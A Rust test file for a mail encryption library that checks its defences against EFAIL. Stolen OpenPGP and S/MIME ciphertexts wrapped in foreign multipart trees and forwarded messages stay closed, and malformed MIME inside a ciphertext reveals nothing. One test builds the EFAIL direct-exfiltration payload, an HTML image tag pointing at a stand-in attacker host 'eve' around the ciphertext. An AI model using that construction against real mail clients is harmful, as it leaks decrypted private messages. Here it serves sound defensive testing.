//! EFAIL's direct exfiltration, covert content and MIME oracles: ciphertext that stands in somebody else's message is not
//! decrypted, and what is wrong inside a ciphertext does not show outside.

#![allow(clippy::unwrap_used, reason = "a test fails where it must")]

mod common;

use common::{desk, read};
use mailseal::openpgp::OpenPgp;
use mailseal::smime::Smime;
use mailseal::{Decryption, Encryption, Mail, Policy, Protocol};
use mailseal_testkit::personas::{self, CAROL, DAVE};

const SECRET: &str = "the second key lies under the bridge";

/// Carol's OpenPGP key and Dave's S/MIME key in one hand.
fn reader() -> Mail {
    desk().openpgp_key_of(&CAROL).smime_key_of(&DAVE).mail()
}

fn encrypted(protocol: &dyn Protocol, entity: &[u8]) -> String {
    let (policy, mut data) = (Policy::at(personas::now()), Vec::new());
    let cert = if protocol.profile().combined { CAROL.openpgp_cert() } else { DAVE.smime_cert() };
    let certs = protocol.parse_certs(&read(&cert)).unwrap();
    if protocol.profile().combined {
        protocol.encrypt(&entity.to_vec(), &certs, &[], &policy, &mut data).unwrap();
        return format!(
            "Content-Type: multipart/encrypted; boundary=e; protocol=\"application/pgp-encrypted\"\r\n\r\n--e\r\n\
             Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--e\r\n\
             Content-Type: application/octet-stream\r\n\r\n{}\r\n--e--\r\n",
            String::from_utf8(data).unwrap()
        );
    }
    let mut part = Vec::new();
    let mut body = |out: &mut dyn std::io::Write| {
        protocol.encrypt(&entity.to_vec(), &certs, &[], &policy, out).map_err(std::io::Error::other)
    };
    let (media_type, smime_type) = ("application/pkcs7-mime", "enveloped-data");
    mailseal_mime::secure::write_opaque(&mut part, b"", media_type, smime_type, "smime.p7m", &mut body).unwrap();
    String::from_utf8(part).unwrap()
}

fn message(root: &str) -> Vec<u8> {
    format!("From: Eve <eve@example.org>\r\nTo: carol@example.org\r\nMIME-Version: 1.0\r\n{root}").into_bytes()
}

fn secret_entity() -> Vec<u8> {
    format!("Content-Type: text/plain\r\n\r\n{SECRET}\r\n").into_bytes()
}

/// R59, R132, attack 5: only the root is decrypted; beside other parts, and inside a forwarded message, it stays closed.
#[test]
fn ciphertext_in_a_strange_tree_stays_closed() {
    for protocol in [&OpenPgp as &dyn Protocol, &Smime] {
        let stolen = encrypted(protocol, &secret_entity());
        let honest = message(&stolen);
        let reader = reader();
        let opened = reader.open(&honest).unwrap();
        assert_eq!(opened.summary.encryption, Encryption::Full, "the control: the root is opened");

        let text = |text: &str| format!("--m\r\nContent-Type: text/html\r\n\r\n{text}\r\n");
        for kind in ["mixed", "related", "alternative", "report", "x-unknown"] {
            let head = format!("Content-Type: multipart/{kind}; boundary=m\r\n\r\n");
            let around = format!("{}--m\r\n{stolen}\r\n{}--m--\r\n", text("<img src=\"http://eve/"), text("\">"));
            let forwarded =
                format!("--m\r\nContent-Type: message/rfc822\r\n\r\nFrom: x@example.org\r\n{stolen}\r\n--m--\r\n");
            for body in [around, format!("--m\r\n{stolen}\r\n--m--\r\n"), forwarded] {
                let hostile = message(&format!("{head}{body}"));
                let opened = reader.open(&hostile).unwrap();
                assert_eq!(opened.summary.encryption, Encryption::None, "{kind}");
                assert!(opened.layers.is_empty(), "{kind}");
                assert_eq!(opened.errant.iter().map(|errant| errant.kind).collect::<Vec<_>>(), ["encrypted"], "{kind}");
                let mut written = Vec::new();
                opened.payload.write_message(&mut written).unwrap();
                assert!(!String::from_utf8_lossy(&written).contains(SECRET), "{kind}");
            }
        }
    }
}

/// Attack 6: whatever MIME stands inside, a reader's program answers one of two ways: opened, or not decrypted.
#[test]
fn broken_mime_inside_is_not_decrypted() {
    let nested = "Content-Type: message/rfc822\r\n\r\n".repeat(200);
    let fields = format!("X: {}\r\n\r\n", "x".repeat(2 << 20));
    for protocol in [&OpenPgp as &dyn Protocol, &Smime] {
        for inside in [nested.as_bytes(), fields.as_bytes()] {
            let sealed = message(&encrypted(protocol, inside));
            let reader = reader();
            let opened = reader.open(&sealed).unwrap();
            assert_eq!(opened.undecrypted(), Some(Decryption::Failed));
            assert_eq!(opened.summary.encryption, Encryption::None);
            assert!(opened.defects.is_empty(), "nothing tells what was inside: {:?}", opened.defects);
        }
    }
}
